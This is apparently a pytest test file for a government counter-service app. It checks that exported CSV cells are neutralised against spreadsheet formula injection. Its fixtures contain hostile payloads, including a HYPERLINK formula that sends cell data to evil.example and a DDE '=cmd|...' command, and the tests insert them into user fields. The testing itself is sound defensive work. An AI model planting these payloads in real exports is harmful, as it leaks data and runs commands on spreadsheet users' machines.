"""No exported cell runs as a formula when central reporting opens the CSV in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from counterdesk.domain.cases import ApplicantKind, Channel, Purpose, Rating
from counterdesk.domain.decision import MaterialReport
from counterdesk.export.cells import FORMULA_STARTS, neutralise, safe_rows
from counterdesk.export.figures import Figure, write_figures
from counterdesk.services.accounts import AccountService, Role
from counterdesk.services.casework import CaseworkService
from counterdesk.services.exporting import export_batch
from counterdesk.services.intake import Applicant, IntakeService, Registration, SubmissionInput
from counterdesk.services.review import ReviewService

ITEM = "37082600ZR-QR-0012"
ANSWERS = {"applicant_type": "个人", "by_agent": "否"}
ALL_PRESENT = {m: MaterialReport() for m in
               ("application", "sale_contract", "id_card", "old_certificate")}
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "=cmd|'/c calc'!A0", "+1",
            "-2+3", "@SUM(1+1)", "\tleading tab", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["王小明", "2026-09-30", "2026-09-30T09:30:00+08:00", "",
                                   None, -2, 3.5, 0, "a=b", "1-2"])
def test_other_values_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_only_the_text_columns_of_a_row_are_touched_so_negative_numbers_stay_numbers():
    rows = [("-2+3", -2, "2026-09-30", "@SUM(1)"), ("plain", -7, "2026-10-01", "text")]
    assert list(safe_rows(rows, (0, 3))) == [
        ("'-2+3", -2, "2026-09-30", "'@SUM(1)"), ("plain", -7, "2026-10-01", "text")]
    # a number column holding text that looks like a negative number is a number column
    assert list(safe_rows([("x", "-5")], (0,))) == [("x", "-5")]


def cells(folder: Path) -> dict[str, list[dict[str, str]]]:
    return {path.stem: list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
            for path in folder.glob("*.csv")}


def test_every_text_cell_of_a_batch_is_neutralised_and_numbers_are_not(make_pc, tmp_path):
    # GIVEN a window PC where every free-text field a person can type holds a formula
    pc = make_pc("W01")
    admin = AccountService(pc.space).log_in("admin", "admin-pass-1", "W01")
    AccountService(pc.space).create_user(admin, "=cmd|'/c calc'!A0", "注入", "inject-pass-1",
                                         Role.CLERK)
    injector = AccountService(pc.space).log_in("=cmd|'/c calc'!A0", "inject-pass-1", "W01")
    intake = IntakeService(pc.space)
    rejected = intake.register(injector, Registration(
        Purpose.APPLY, Channel.ONSITE,
        Applicant(ApplicantKind.PERSON, "王小明", "resident_id", "11010519491231002X"), ITEM))
    intake.decide(injector, str(rejected.id), SubmissionInput(
        ANSWERS, ALL_PRESENT, in_jurisdiction=False,
        competent_office='=HYPERLINK("http://evil.example/?d="&A1,"点击")'))
    rated = pc.register_and_accept()
    CaseworkService(pc.space).rate(pc.clerk, rated, Rating.DISSATISFIED, "@SUM(1+1)")
    reviews = ReviewService(pc.space)
    for review in reviews.queue(pc.supervisor):
        reviews.confirm(pc.supervisor, str(review["id"]), "-2+3")
    # WHEN the batch is exported
    result = export_batch(pc.space, None, tmp_path / "out")
    tables = cells(result.folder)
    # THEN no text cell starts a formula, and each payload is there behind an apostrophe
    every_cell = [value for rows in tables.values() for row in rows for value in row.values()]
    assert not [value for value in every_cell if value.startswith(FORMULA_STARTS)]
    assert "'=cmd|'/c calc'!A0" in {row["owner"] for row in tables["cases"]}
    assert "'=cmd|'/c calc'!A0" in {row["clerk"] for row in tables["decisions"]}
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")" in {
        row["competent_office"] for row in tables["decisions"]}
    assert {row["comment"] for row in tables["ratings"]} == {"'@SUM(1+1)"}
    assert "'-2+3" in {row["comment"] for row in tables["reviews"]}
    # numbers and dates are still numbers and dates
    for row in tables["cases"]:
        assert row["row_version"].isdigit() and row["received_on"][:4] == "2026"


def test_a_neutralised_batch_still_merges_with_its_numbers_as_numbers(make_pc, tmp_path):
    duckdb = pytest.importorskip("duckdb")
    from counterdesk.export.merge import merge

    pc = make_pc("W01")
    case = pc.register_and_accept()
    CaseworkService(pc.space).rate(pc.clerk, case, Rating.SATISFIED, "=1+1")
    export_batch(pc.space, None, tmp_path / "out")
    merge([tmp_path / "out"], tmp_path / "hall.duckdb")
    con = duckdb.connect(str(tmp_path / "hall.duckdb"), read_only=True)
    try:
        assert con.execute("SELECT comment FROM ratings").fetchall() == [("'=1+1",)]
        assert con.execute("SELECT typeof(row_version) FROM cases").fetchone()[0] == "BIGINT"
    finally:
        con.close()


def test_figures_written_as_csv_are_neutralised_too(tmp_path):
    figure = Figure("volume_by_clerk", ("clerk", "cases"), (("=cmd|'/c calc'!A0", 3),
                                                             ("-5", -5)))
    [path] = write_figures([figure], tmp_path)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1:] == [["'=cmd|'/c calc'!A0", "3"], ["'-5", "-5"]]
